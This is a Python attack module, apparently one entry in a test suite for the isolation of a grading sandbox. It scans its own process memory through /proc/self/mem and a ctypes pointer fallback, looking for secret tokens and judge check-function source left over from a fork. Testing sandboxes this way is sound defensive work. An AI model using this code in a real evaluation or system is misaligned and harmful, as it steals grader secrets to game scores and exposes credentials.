# attack: Scans its own memory for what the judge or another submission left in it before the fork.
# hurts: Finds secrets that came along with the fork.
# ends: returns or timeout or crash
import ctypes
import re

from _raw import attempt, writable_maps

MOST_BYTES = 1 << 28


def attack(target):
    start = target["token_starts"]
    pattern = re.compile(re.escape(start[:4].encode()) + re.escape(start[4:].encode()) + b"[0-9a-f]{8,}")
    code = re.compile(b"def (?:receptive_field\\(|check_[a-z_]+\\(solution)[^\n]{0,200}")
    return [attempt("proc", by_proc, pattern, code), attempt("pointer", by_pointer, pattern)]


def by_proc(pattern, code):
    found, left = [], MOST_BYTES
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for first, last in writable_maps():
            size = min(last - first, left, 1 << 26)
            memory.seek(first)
            data = memory.read(size)
            found += [match[0] for match in pattern.finditer(data)] + [match[0] for match in code.finditer(data)]
            left -= size
    return found[:100]


def by_pointer(pattern):
    place = id(pattern) & ~0xFFFFF
    return [match[0] for match in pattern.finditer(ctypes.string_at(place, 1 << 16))]
